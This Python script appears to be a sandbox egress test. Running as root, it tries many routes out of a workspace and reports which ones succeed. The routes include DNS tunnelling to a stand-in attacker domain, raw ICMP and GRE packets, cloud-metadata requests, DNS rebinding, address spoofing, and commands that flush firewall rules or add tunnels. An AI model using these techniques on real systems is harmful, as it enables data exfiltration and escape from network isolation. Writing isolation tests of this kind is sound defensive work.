"""Ways out that a workspace must not have, tried inside as its root; prints one JSON object: attack -> its outcome.

Started with the addresses of the attacker, a neighbour, the gateway and the machine, ports that something listens on
there, and the resolver's port. An outcome that begins with ``reached`` is a hole; whatever it is, sniffers outside must
see nothing.
"""

import concurrent.futures
import errno
import json
import os
import socket
import struct
import subprocess
import sys
from collections.abc import Callable, Sequence
from functools import partial

EVIL, NEIGHBOUR, GATEWAY, HOST, PORTS, RESOLVER = sys.argv[1:7]
METADATA, PRIVATE, DNS = "169.254.169.254", "10.20.30.40", "198.51.100.53"
SECRET = b"stolen-data" * 4
TUNNEL = "c3RvbGVuLWRhdGE.evil.example.net"
KINDS = {"A": 1, "NS": 2, "CNAME": 5, "SOA": 6, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33}
KINDS |= {"HTTPS": 65, "ANY": 255}
WAIT = 2.5


def tcp(
    address: str,
    port: int,
    *,
    options: Sequence[tuple[int, int, bytes]] = (),
    bound: tuple[str, int] | None = None,
    family: int = socket.AF_INET,
) -> str:
    with socket.socket(family, socket.SOCK_STREAM) as one:
        one.settimeout(WAIT)
        for level, name, value in options:
            one.setsockopt(level, name, value)
        if bound is not None:
            one.bind(bound)
        one.connect((address, port))
        one.sendall(SECRET)
        return f"reached {one.recv(64)!r}"


def udp(
    address: str,
    port: int,
    *,
    bound: tuple[str, int] | None = None,
    data: bytes = SECRET,
    family: int = socket.AF_INET,
    broadcast: bool = False,
) -> str:
    with socket.socket(family, socket.SOCK_DGRAM) as one:
        one.settimeout(WAIT)
        if broadcast:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        if bound is not None:
            one.bind(bound)
        one.connect((address, port))
        one.send(data)
        return f"reached {one.recv(64)!r}"


def question(name: str, kind: int, *, count: int = 1, dns_class: int = 1, more: bytes = b"") -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
    asked = labels + struct.pack(">HH", kind, dns_class)
    return struct.pack(">HHHHHH", 4711, 0x0100, count, 0, 0, 0) + asked * count + more


def asks(name: str, kind: int, server: str = GATEWAY, *, count: int = 1, dns_class: int = 1, more: bytes = b"") -> str:
    """Ask for a name; an answer without records is none."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(WAIT)
        one.connect((server, 53))
        one.send(question(name, kind, count=count, dns_class=dns_class, more=more))
        answer = one.recv(4096)
    found = struct.unpack_from(">H", answer, 6)[0]
    return f"reached with {found} records" if found else f"code {answer[3] & 15}"


def asks_by_stream(name: str, kind: int, server: str = GATEWAY) -> str:
    with socket.create_connection((server, 53), WAIT) as one:
        asked = question(name, kind)
        one.sendall(struct.pack(">H", len(asked)) + asked)
        answer = one.recv(4096)
    found = struct.unpack_from(">H", answer, 8)[0] if len(answer) > 10 else 0
    return f"reached with {found} records" if found else "no records"


def by_name(name: str, port: int = 80) -> str:
    with socket.create_connection((name, port), WAIT) as one:
        one.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return f"reached {one.recv(64)!r}"


def raw(protocol: int) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as one:
        one.sendto(SECRET, (EVIL, 0))
    return "sent"


def packets() -> str:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3) as one:
        one.bind(("eth0", 0))
        one.send(bytes(14) + SECRET)
    return "sent"


def ping() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as one:
        one.settimeout(WAIT)
        one.sendto(b"\x08\0\0\0\0\1\0\1" + SECRET, (EVIL, 0))
        return f"reached {one.recv(64)!r}"


def vsock() -> str:
    with socket.socket(40, socket.SOCK_STREAM) as one:
        one.connect((2, 1))
    return "reached"


def sctp() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as one:
        one.settimeout(WAIT)
        one.connect((EVIL, 80))
    return "reached"


def fast_open() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as one:
        one.settimeout(WAIT)
        one.sendto(SECRET, 0x20000000, (EVIL, 443))
        return f"reached {one.recv(64)!r}"


def run(*commands: str) -> str:
    for command in commands:
        done = subprocess.run(["/bin/sh", "-c", command], capture_output=True, text=True, check=False, timeout=20)
        if done.returncode:
            return f"{command}: {done.stderr.strip()[-80:]}"
    return ""


def spoofed() -> str:
    failed = run(f"ip addr add {EVIL[:-2]}77/32 dev lo")
    return failed or udp(EVIL, 443, bound=(f"{EVIL[:-2]}77", 0))


def neighbours_address() -> str:
    failed = run(f"ip addr add {NEIGHBOUR}/32 dev lo")
    try:
        return failed or udp(EVIL, 443, bound=(NEIGHBOUR, 0))
    finally:
        run(f"ip addr del {NEIGHBOUR}/32 dev lo")


def own_route() -> str:
    failed = run(f"ip route replace {EVIL}/32 dev eth0 onlink")
    return failed or tcp(EVIL, 443)


def own_rules() -> str:
    run("nft flush ruleset")
    return tcp(EVIL, 8080)


def tunnel() -> str:
    failed = run(
        f"ip link add t0 type ipip remote {EVIL} local any", "ip link set t0 up", "ip addr add 192.0.2.9/24 dev t0"
    )
    return failed or udp("192.0.2.1", 443)


def inner_network() -> str:
    return (
        run("unshare --net true", "unshare --user --net ip link add a type macvlan link eth0") or "made, leads nowhere"
    )


ATTACKS: dict[str, Callable[[], str]] = {
    **{f"tunnel in {name} questions": partial(asks, TUNNEL, kind) for name, kind in KINDS.items()},
    "tunnel by a stream": lambda: asks_by_stream(TUNNEL, 16),
    "allowed name below the attacker's": lambda: asks("web.example.org.evil.example.net", 1),
    "two questions at once": lambda: asks(TUNNEL, 16, count=2),
    "class CHAOS": lambda: asks(TUNNEL, 16, dns_class=3),
    "question with a tail": lambda: asks(TUNNEL, 1, more=SECRET * 20),
    "another name server": lambda: asks(TUNNEL, 1, server=EVIL),
    "another name server by a stream": lambda: asks_by_stream(TUNNEL, 1, server=EVIL),
    "the real name server": lambda: asks(TUNNEL, 16, server=DNS),
    "DNS over TLS": lambda: tcp(EVIL, 853),
    "DNS over QUIC": lambda: udp(EVIL, 853),
    "DNS over HTTPS by address": lambda: tcp(DNS, 443),
    "multicast DNS": lambda: udp("224.0.0.251", 5353),
    **{f"address, TCP {port}": partial(tcp, EVIL, port) for port in (22, 25, 80, 443, 5432, 8080)},
    "QUIC": lambda: udp(EVIL, 443, data=b"\xc0\0\0\0\1" + bytes(1195)),
    "NTP": lambda: udp(EVIL, 123, data=b"\x1b" + bytes(47)),
    "IPsec": lambda: udp(EVIL, 4500),
    "large datagram in pieces": lambda: udp(EVIL, 443, data=bytes(8000)),
    "from port 53": lambda: udp(EVIL, 443, bound=("0.0.0.0", 53)),
    "ping": ping,
    "raw ICMP": lambda: raw(socket.IPPROTO_ICMP),
    "raw IP in IP": lambda: raw(4),
    "raw GRE": lambda: raw(47),
    "frames": packets,
    "SCTP": sctp,
    "VSOCK": vsock,
    "data in the first packet": fast_open,
    "route of the sender": lambda: tcp(EVIL, 80, options=[(0, 4, bytes([131, 7, 4, *map(int, EVIL.split(".")), 0]))]),
    "IPv6": lambda: tcp("2001:db8::1", 80, family=socket.AF_INET6),
    "IPv6 datagram": lambda: udp("2001:db8::1", 443, family=socket.AF_INET6),
    "IPv6 to the link": lambda: udp("ff02::1%eth0", 5353, family=socket.AF_INET6),
    "IPv4 in IPv6": lambda: tcp(f"::ffff:{EVIL}", 80, family=socket.AF_INET6),
    "metadata": lambda: tcp(METADATA, 80),
    "metadata by name": lambda: by_name("rebind-metadata.evil.example.net"),
    "rebinding": lambda: by_name("rebind-private.evil.example.net"),
    "rebinding to this machine": lambda: by_name("rebind-loopback.evil.example.net", 631),
    "decimal address": lambda: by_name(str(struct.unpack(">I", socket.inet_aton(EVIL))[0])),
    "octal address": lambda: by_name(".".join(f"0{int(part):o}" for part in EVIL.split("."))),
    "private address": lambda: tcp(PRIVATE, 80),
    "neighbour": lambda: tcp(NEIGHBOUR, 22),
    "neighbour's datagrams": lambda: udp(NEIGHBOUR, 53),
    **{f"port {port} of the gateway": partial(tcp, GATEWAY, int(port)) for port in PORTS.split(",")},
    "the resolver's own port": lambda: tcp(GATEWAY, int(RESOLVER)),
    **{f"port {port} of this machine": partial(tcp, HOST, int(port)) for port in PORTS.split(",")},
    "broadcast": lambda: udp("255.255.255.255", 9, broadcast=True),
    "another sender": spoofed,
    "the neighbour as sender": neighbours_address,
    "a route of its own": own_route,
    "no rules of its own": own_rules,
    "a tunnel of its own": tunnel,
    "a network of its own": inner_network,
}


def tried(attack: Callable[[], str]) -> str:
    try:
        return attack()
    except OSError as failed:
        return errno.errorcode.get(failed.errno or 0, "") or str(failed)
    except Exception as failed:  # noqa: BLE001 - an attack that cannot be made is none
        return repr(failed)


changing = (
    "another sender",
    "the neighbour as sender",
    "a route of its own",
    "no rules of its own",
    "a tunnel of its own",
)
with concurrent.futures.ThreadPoolExecutor(24) as pool:
    waiting = {name: pool.submit(tried, attack) for name, attack in ATTACKS.items() if name not in changing}
    outcomes = {name: done.result() for name, done in waiting.items()}
for name in changing:
    outcomes[name] = tried(ATTACKS[name])
sys.stdout.write(json.dumps(outcomes) + "\n")
sys.stdout.flush()
os._exit(0)
